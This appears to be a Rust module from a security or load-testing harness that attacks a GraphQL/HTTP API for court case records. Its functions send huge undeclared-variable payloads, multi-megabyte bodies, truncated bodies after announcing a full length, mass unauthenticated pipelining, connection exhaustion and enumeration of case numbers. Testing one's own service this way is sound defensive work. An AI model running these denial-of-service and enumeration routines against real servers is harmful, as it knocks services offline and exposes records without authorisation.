//! Attacks on HTTP and on the body parser: the request costs the server more than the query in it.

use crate::attacks::{Attacker, Scene};
use crate::client::Session;
use elos::processo::NumeroProcesso;
use serde_json::{Map, Value, json};
use std::io::{Error, Result};
use std::thread::sleep;
use std::time::Duration;

const MIB: usize = 1024 * 1024;

/// Returns almost a megabyte of variables that the document does not declare.
pub fn variables(_: &Scene, _: usize) -> Value {
    let many: Map<_, _> = (0..70_000).map(|n| (format!("v{n}"), 0.into())).collect();
    json!({ "query": "{ eu { azp } }", "variables": many })
}

/// On even connections, sends a body of four megabytes with two million values. On odd ones, announces
/// a megabyte and sends half of it.
pub fn bodies(session: &mut Session, attacker: &Attacker, n: u64) -> Result<Vec<u16>> {
    if (n >> 32).is_multiple_of(2) {
        let values = "0,".repeat(2 * MIB - 100);
        let body = format!("{{\"processo\":[{values}0]}}");
        let answer = session.post("/tramites/processo", &attacker.token, body.as_bytes())?;
        return Ok(vec![answer.status]);
    }
    session.announce("/graphql", &attacker.token, MIB, &vec![b' '; MIB / 2])?;
    Ok(vec![session.receive()?.status])
}

/// Sends thousands of requests at once without a token, and does not read the responses.
pub fn pipelining(session: &mut Session, _: &Attacker, _: u64) -> Result<Vec<u16>> {
    session.pipeline("/schema.graphql", 262_144)?;
    sleep(Duration::from_secs(2));
    Err(Error::other("once for each connection"))
}

/// Looks up numbers that might belong to a processo.
pub fn enumeration(session: &mut Session, attacker: &Attacker, n: u64) -> Result<Vec<u16>> {
    let (connection, turn) = (n >> 32, n & 0xffff_ffff);
    let sequence = u32::try_from(turn * 64 + connection).unwrap_or_default() % 9_000_000;
    let numero = NumeroProcesso::synthetic(sequence, 2019, 820, 3);
    let path = format!("/api/v1/processos/numero-processo/{}", numero.digits());
    Ok(vec![session.get(&path, Some(&attacker.token))?.status])
}

/// Opens more connections than the server allows, and sends a request on each now and then.
pub fn connections(session: &mut Session, _: &Attacker, _: u64) -> Result<Vec<u16>> {
    sleep(Duration::from_secs(2));
    Ok(vec![session.get("/healthz", None)?.status])
}
